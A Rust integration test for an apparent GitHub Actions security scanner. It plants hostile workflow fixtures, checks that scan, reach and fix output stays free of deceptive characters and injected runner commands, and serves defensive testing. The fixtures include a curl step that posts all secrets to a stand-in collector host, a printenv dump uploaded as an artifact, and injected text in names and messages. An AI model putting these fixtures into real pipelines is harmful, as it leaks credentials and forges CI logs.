//! Text of a repository deceives nobody and commands nothing, wherever the program prints it: the payloads of
//! `tests/hostile-text.txt` go through every output of `scan`, `reach` and `fix`.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod victim;

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;
use victim::{commit, git, repository};

/// The payloads, without the notation.
fn payloads() -> Vec<String> {
    let lines = include_str!("../../../tests/hostile-text.txt").lines();
    lines.filter(|line| !line.starts_with("# ")).map(plain).collect()
}

fn plain(line: &str) -> String {
    let mut out = String::new();
    let mut rest = line;
    while let Some((before, after)) = rest.split_once('\\') {
        out.push_str(before);
        rest = if let Some(after) = after.strip_prefix("u{") {
            let (digits, after) = after.split_once('}').unwrap();
            out.push(char::from_u32(u32::from_str_radix(digits, 16).unwrap()).unwrap());
            after
        } else {
            out.push('\\');
            after.strip_prefix('\\').unwrap()
        };
    }
    out + rest
}

/// Characters that have no business in any output. Written out by itself: the program's own list is what is tested.
fn is_deceptive(character: char) -> bool {
    let code = character as u32;
    (code < 0x20 && character != '\n' && character != '\t')
        || matches!(code, 0x7f..=0x9f | 0xad | 0x61c | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f
            | 0x3164 | 0xfe0f | 0xfeff | 0xe0000..=0xe0fff)
}

/// A path's part of a payload: what a file system and git take.
fn as_name(payload: &str) -> String {
    payload.replace('/', "_").chars().take(60).collect()
}

/// What stays of a payload where YAML would refuse the rest.
fn as_yaml(payload: &str) -> String {
    let quoted: String = payload
        .chars()
        .map(|c| match c {
            '"' | '\\' => format!("\\{c}"),
            '\t'..='~' if !c.is_control() => c.to_string(),
            c => format!("\\U{:08x}", c as u32),
        })
        .collect();
    format!("\"{quoted}\"")
}

/// Each payload as a file's name, a workflow's, a job's and a step's name, a script's line, an address, an artifact, a
/// comment's reason, a package's name, an author and a message; those that can be are a branch, too.
fn hostile() -> tempfile::TempDir {
    let tree = repository(&[("README.md", "x\n")]);
    let path = tree.path();
    for (at, payload) in payloads().iter().enumerate() {
        let (name, text) = (as_name(payload), as_yaml(payload));
        let raw: String = payload.chars().filter(|c| !matches!(c, '\n' | '\r')).collect();
        let workflow = format!(
            "name: {text}\non: {{push: {{branches: [{text}, '**']}}}}\njobs:\n  a{at}:\n    name: {text}\n    runs-on: ubuntu-latest\n    steps:\n      - name: {text}\n        run: |\n          # {raw}\n          curl -d '${{{{ toJSON(secrets) }}}}' 'https://collector.test/{raw}'\n      - uses: somebody/deploy@v1 # portcullis: accept secret-to-action {raw}\n        with: {{token: \"${{{{ secrets.DEPLOY_TOKEN }}}}\", {text}: \"${{{{ secrets.DEPLOY_TOKEN }}}}\"}}\n      - run: printenv > x{at}\n      - uses: actions/upload-artifact@v4\n        with: {{name: {text}, path: x{at}}}\n"
        );
        let action = as_yaml(&format!("changed/files@v1{payload}"));
        let publish = format!(
            "on: push\njobs:\n  p:\n    runs-on: ubuntu-latest\n    environment: {text}\n    steps:\n      - uses: {action}\n      - name: {text} # {raw}\n        run: echo {at}\n      - uses: pypa/gh-action-pypi-publish@release/v1 # {raw}\n        with:\n          # {raw}\n          password: ${{{{ secrets.PYPI_API_TOKEN }}}}\n"
        );
        let project = format!("[project]\nname = {}\n", serde_json::to_string(payload).unwrap());
        commit(
            path,
            &[
                (&format!(".github/workflows/{name}.yml"), &workflow),
                (&format!(".github/workflows/{name}-publish.yml"), &publish),
                ("pyproject.toml", &project),
            ],
            payload,
        );
        let author = format!("{} <a@example.test>", payload.replace(['<', '>', '\n'], " "));
        git(path, &["commit", "-q", "--amend", "--no-edit", "--author", &author]);
        let branch: String =
            payload.chars().filter(|c| !c.is_ascii_control() && !" ~^:?*[\\".contains(*c)).collect();
        let _ =
            Command::new("git").args(["branch", "--", &format!("b{at}{branch}")]).current_dir(path).output();
    }
    tree
}

fn run(arguments: &[&str], folder: &Path, in_job: bool, colour: bool) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
    command.args(arguments).current_dir(folder).env_remove("GITHUB_ACTIONS").env_remove("NO_COLOR");
    if in_job {
        command.env("GITHUB_ACTIONS", "true");
    }
    if colour {
        command.env("CLICOLOR_FORCE", "1");
    }
    let output = command.output().unwrap();
    assert_ne!(output.status.code(), Some(2), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    output
}

fn text(output: &Output) -> (String, String) {
    (String::from_utf8(output.stdout.clone()).unwrap(), String::from_utf8(output.stderr.clone()).unwrap())
}

/// No character that deceives, and no line that a payload begins by a line break of its own.
fn assert_plain(text: &str, what: &str) {
    for line in text.lines() {
        let wrong = line.chars().find(|character| is_deceptive(*character));
        assert!(wrong.is_none(), "{what}: {wrong:?} in {line:?}");
        assert!(!line.trim_start().starts_with("mark-forged"), "{what}: a forged line: {line:?}");
    }
}

/// Reads a log as the runner does (actions/runner, ActionCommandManager): what the commands in it would be.
fn commands(log: &str) -> Vec<String> {
    let mut stopped: Option<String> = None;
    let mut commands = Vec::new();
    for line in log.lines() {
        let trimmed = line.trim_start();
        if let Some(word) = &stopped {
            if trimmed.to_lowercase().starts_with(&format!("::{word}::")) {
                stopped = None;
            }
        } else if let Some(word) = trimmed.strip_prefix("::stop-commands::") {
            stopped = Some(word.trim().to_lowercase());
        } else if trimmed.starts_with("::") {
            commands.push(line.to_owned());
        }
        if line.contains("##[") {
            commands.push(line.to_owned());
        }
    }
    assert_eq!(stopped, None, "commands stay off for what comes after");
    commands
}

/// One repository for all of it: it takes git some time.
#[test]
fn text_of_a_repository_deceives_nobody_and_commands_nothing() {
    let tree = hostile();
    people_are_shown_what_is_there(tree.path());
    colours_are_the_programs_own(tree.path());
    the_log_of_a_job_takes_no_command(tree.path());
    a_file_has_no_marks(tree.path());
    documents_hold_the_text_and_show_none_of_it(tree.path());
    messages_of_sarif_deceive_nobody(tree.path());
}

/// What people read: in a pipe, in the log of a job, and in colours.
const HUMAN: &[&[&str]] = &[
    &["scan", "--min-verdict", "advice"],
    &["scan", "--min-verdict", "advice", "--explain"],
    &["scan", "--min-verdict", "advice", "--no-history"],
    &["reach", "--action", "changed/files"],
    &["fix"],
    &["fix", "--remove-malicious"],
];

fn people_are_shown_what_is_there(tree: &Path) {
    for arguments in HUMAN {
        let (out, err) = text(&run(arguments, tree, false, false));
        if arguments == &["fix", "--remove-malicious"] {
            // A patch in a pipe is for `git apply`, byte by byte.
            assert_plain(&err, "fix --remove-malicious");
            continue;
        }
        let all = format!("{out}{err}");
        assert!(all.matches("mark-").count() > 30, "{arguments:?} prints no payload: {all}");
        assert_plain(&all, &format!("{arguments:?}"));
    }
}

fn colours_are_the_programs_own(tree: &Path) {
    let (out, _) = text(&run(HUMAN[0], tree, false, true));
    let mut plain = String::new();
    let mut pieces = out.split('\u{1b}');
    plain.push_str(pieces.next().unwrap());
    let mut coloured = 0;
    for piece in pieces {
        let (style, rest) = piece.split_once('m').unwrap();
        let digits = style.strip_prefix('[').unwrap_or_else(|| panic!("not a colour: {piece:?}"));
        assert!(digits.chars().all(|c| c.is_ascii_digit() || c == ';'), "not a colour: {piece:?}");
        plain.push_str(rest);
        coloured += 1;
    }
    assert!(coloured > 10);
    assert_plain(&plain, "in colours");
}

fn the_log_of_a_job_takes_no_command(tree: &Path) {
    let mut words = Vec::new();
    for arguments in HUMAN {
        let (out, err) = text(&run(arguments, tree, true, false));
        assert_plain(&out, &format!("{arguments:?}"));
        // The runner reads both streams, in an order that nobody knows.
        for log in [out.as_str(), err.as_str()] {
            assert_eq!(commands(log), Vec::<String>::new(), "{arguments:?}");
        }
        let word = out.lines().find_map(|line| line.strip_prefix("::stop-commands::")).unwrap();
        assert!(word.len() >= 32, "{word}");
        words.push(word.to_owned());
        let first = out.lines().next().unwrap();
        assert!(
            first.starts_with("::stop-commands::"),
            "{arguments:?}: something stands before the mark: {first}"
        );
    }
    words.sort();
    words.dedup();
    assert_eq!(words.len(), HUMAN.len(), "a word that comes twice can be known before");
    for format in ["json", "jsonl", "sarif"] {
        let (out, err) = text(&run(&["scan", "--format", format], tree, true, false));
        assert_eq!(commands(&format!("{out}{err}")), Vec::<String>::new(), "{format}");
    }
    let (out, _) = text(&run(&["fix", "--format", "json"], tree, true, false));
    assert_eq!(commands(&out), Vec::<String>::new());
}

/// Marks would be part of what a later program reads.
fn a_file_has_no_marks(tree: &Path) {
    let outside = tempfile::tempdir().unwrap();
    let file = outside.path().join("found.txt");
    run(&["scan", "--output", file.to_str().unwrap()], tree, true, false);
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(!text.starts_with("::") && text.contains("mark-"));
    assert_plain(&text, "--output");
    let patch = outside.path().join("fix.patch");
    let status = Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(["fix", "--remove-malicious"])
        .current_dir(tree)
        .env("GITHUB_ACTIONS", "true")
        .stdout(std::fs::File::create(&patch).unwrap())
        .stderr(std::process::Stdio::null())
        .status();
    assert_eq!(status.unwrap().code(), Some(1));
    assert!(std::fs::read_to_string(&patch).unwrap().starts_with("# refs/heads/"));
}

/// Programs get the text as it is, in a form that shows nothing by itself.
fn documents_hold_the_text_and_show_none_of_it(tree: &Path) {
    for arguments in [
        &["scan", "--min-verdict", "advice", "--format", "json"][..],
        &["scan", "--min-verdict", "advice", "--format", "jsonl"],
        &["reach", "--action", "changed/files", "--format", "json"],
        &["reach", "--action", "changed/files", "--format", "jsonl"],
    ] {
        let (out, _) = text(&run(arguments, tree, false, false));
        assert_plain(&out, &format!("{arguments:?}"));
        let lines = if arguments.contains(&"jsonl") { out.lines().collect() } else { vec![out.as_str()] };
        let values: Vec<Value> = lines.iter().map(|line| serde_json::from_str(line).unwrap()).collect();
        let mut texts = Vec::new();
        values.iter().for_each(|value| strings(value, &mut texts));
        for payload in payloads() {
            let name = format!(".github/workflows/{}-publish.yml", as_name(&payload));
            assert!(texts.contains(&name), "{arguments:?}: {name:?} is lost");
        }
    }
    let (out, _) = text(&run(&["fix", "--format", "json"], tree, false, false));
    assert_plain(&out, "fix --format json");
    serde_json::from_str::<Value>(&out).unwrap();
    let (out, _) = text(&run(&["fix", "--remove-malicious", "--format", "json"], tree, false, false));
    assert_plain(&out, "fix --remove-malicious --format json");
    serde_json::from_str::<Value>(&out).unwrap();
}

fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(text) => out.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| strings(item, out)),
        Value::Object(fields) => fields.values().for_each(|field| strings(field, out)),
        _ => {}
    }
}

/// Messages of SARIF are shown by whoever reads it, and may hold links and places to fill.
fn messages_of_sarif_deceive_nobody(tree: &Path) {
    for arguments in [
        &["scan", "--min-verdict", "advice", "--format", "sarif"][..],
        &["reach", "--action", "changed/files", "--format", "sarif"],
    ] {
        let (out, _) = text(&run(arguments, tree, false, false));
        assert_plain(&out, "sarif");
        let document: Value = serde_json::from_str(&out).unwrap();
        let mut messages = Vec::new();
        shown(&document, &mut messages);
        assert!(messages.iter().any(|message| message.contains("mark-")), "{messages:?}");
        for message in messages {
            assert_plain(&message, "a message");
            assert!(!message.contains('\n') && !message.contains("[mark]"), "{message:?}");
            assert!(!message.replace("{{0}}", "").contains("{0}"), "{message:?}");
        }
        let uris: Vec<&str> =
            out.lines().filter_map(|line| line.trim().strip_prefix("\"uri\": \"")).collect();
        assert!(uris.iter().all(|uri| !uri.contains(['<', ' ', '\\', '`', '{', '['])), "{uris:?}");
    }
}

/// Messages, which viewers show; the rules' own help is ours.
fn shown(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::Array(items) => items.iter().for_each(|item| shown(item, out)),
        Value::Object(fields) => {
            for (key, field) in fields {
                match (key.as_str(), field) {
                    ("message", Value::Object(_)) => out.push(field["text"].as_str().unwrap().to_owned()),
                    // No message: nothing in it is a link.
                    ("justification", Value::String(text)) => assert_plain(text, "a justification"),
                    ("rules" | "properties", _) => {}
                    _ => shown(field, out),
                }
            }
        }
        _ => {}
    }
}
